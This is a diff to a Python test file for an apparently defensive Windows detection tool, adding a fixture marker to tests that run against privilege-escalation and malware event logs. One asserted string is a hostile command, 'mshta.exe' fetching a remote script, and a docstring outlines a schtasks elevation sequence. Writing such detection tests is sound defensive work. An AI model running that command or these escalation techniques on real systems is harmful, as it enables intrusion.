@@ -210,6 +210,7 @@ def test_task_known_only_from_events_shows_its_action_not_the_creating_command(c
     assert actions == "Actions: mshta.exe https://hotelesms.com/Injection.txt"
 
 
+@pytest.mark.usefixtures("corpus")
 def test_create_run_delete_by_schtasks_command_lines_is_high_on_the_real_winpwnage_log():
     """WinPwnage elevate: schtasks /create /xml %TEMP%\\elevator.xml, /run, /delete ten seconds later (Sysmon 1)."""
     case = run([str(ATTACK / "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx")], Context(quiet=True),
@@ -222,6 +223,7 @@ def test_create_run_delete_by_schtasks_command_lines_is_high_on_the_real_winpwna
     assert len(created) == 1 and len(deleted) == 1
 
 
+@pytest.mark.usefixtures("corpus")
 def test_task_created_by_rundll32_is_high_and_names_the_loader_on_the_real_malware_log():
     case = run([str(ATTACK / "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx")], Context(quiet=True),
                hunt_date="20260101")
@@ -246,6 +248,7 @@ def test_windows_installer_custom_action_creating_a_task_through_rundll32_is_not
     assert not any("created_by_loader" in _rules(f) for f in _judge(events=[installer]))
 
 
+@pytest.mark.usefixtures("corpus")
 def test_user_process_starting_queuereporting_is_medium_on_the_real_wertrigger_log():
     case = run([str(ATTACK / "Privilege Escalation/privesc_spoolsv_spl_file_write_sysmon11.evtx")], Context(quiet=True),
                hunt_date="20260101")
@@ -254,6 +257,7 @@ def test_user_process_starting_queuereporting_is_medium_on_the_real_wertrigger_l
     assert any("WerTrigger.exe" in e.value for e in finding.evidence)
 
 
+@pytest.mark.usefixtures("corpus")
 def test_user_environment_systemroot_override_is_high_on_the_real_cdssync_bypass_log():
     case = run([str(ATTACK / "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx")],
                Context(quiet=True), hunt_date="20260101")
